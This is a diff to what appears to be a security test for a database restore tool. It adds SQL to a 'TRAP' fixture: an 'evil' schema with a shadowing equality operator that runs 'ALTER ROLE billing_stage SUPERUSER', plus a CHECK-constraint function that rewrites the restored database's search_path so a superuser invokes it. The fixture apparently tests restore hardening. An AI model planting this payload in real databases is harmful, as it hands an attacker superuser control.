@@ -18,7 +18,8 @@ NEW = Variant("stage", "0.2.0")
 
 FIRST, SECOND = "20260101000000", "20260201000000"
 
-# A constraint calls it for each row that a restore writes. The superuser could take both settings back.
+# Constraints call these for each row that a restore writes. The superuser could take both settings back, and would find an
+# operator of the owner where names are looked up in the database.
 TRAP = """\
 CREATE FUNCTION spring(integer) RETURNS boolean LANGUAGE plpgsql AS $$
 BEGIN
@@ -29,6 +30,24 @@ BEGIN
 EXCEPTION WHEN OTHERS THEN
     RETURN true;
 END $$;
+CREATE SCHEMA evil;
+CREATE FUNCTION evil.same("char", "char") RETURNS boolean LANGUAGE plpgsql AS $$
+BEGIN
+    EXECUTE 'ALTER ROLE billing_stage SUPERUSER';
+    RETURN $1 OPERATOR(pg_catalog.=) $2;
+EXCEPTION WHEN OTHERS THEN
+    RETURN $1 OPERATOR(pg_catalog.=) $2;
+END $$;
+CREATE OPERATOR evil.= (LEFTARG = "char", RIGHTARG = "char", FUNCTION = evil.same);
+CREATE FUNCTION lure(integer) RETURNS boolean LANGUAGE plpgsql AS $$
+BEGIN
+    IF current_database() <> 'billing_stage' THEN
+        EXECUTE format('ALTER DATABASE %I SET search_path = evil, pg_catalog, public', current_database());
+    END IF;
+    RETURN true;
+END $$;
+CREATE TABLE lures (id integer CHECK (lure(id)));
+INSERT INTO lures VALUES (1);
 CREATE TABLE traps (id integer CHECK (spring(id)));
 INSERT INTO traps VALUES (1);
 CREATE TABLE names (name public.citext UNIQUE);
